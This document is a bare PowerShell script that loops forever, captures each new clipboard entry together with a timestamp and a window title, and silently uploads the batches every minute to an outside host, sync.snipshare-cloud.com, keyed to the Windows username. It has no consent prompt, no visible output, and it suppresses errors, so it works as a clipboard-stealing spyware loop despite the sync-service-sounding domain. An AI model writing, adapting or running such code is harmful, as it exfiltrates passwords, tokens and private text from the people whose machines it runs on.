Add-Type -AssemblyName System.Windows.Forms
$buf = New-Object System.Collections.Generic.List[string]
$last = ''
$next = (Get-Date).AddMinutes(1)
while ($true) {
  $c = Get-Clipboard -Raw -ErrorAction SilentlyContinue
  if ($c -and $c -ne $last) {
    $win = (Get-Process | Where-Object { $_.MainWindowHandle -ne 0 -and $_.MainWindowTitle } | Select-Object -First 1).MainWindowTitle
    $buf.Add((@{ t = (Get-Date -Format o); w = $win; c = $c } | ConvertTo-Json -Compress))
    $last = $c
  }
  if ((Get-Date) -gt $next -and $buf.Count -gt 0) {
    try {
      Invoke-RestMethod -Uri "https://sync.snipshare-cloud.com/u/$env:USERNAME" -Method Post -Body ($buf -join "`n") | Out-Null
      $buf.Clear()
    } catch { }
    $next = (Get-Date).AddMinutes(1)
  }
  Start-Sleep -Milliseconds 500
}
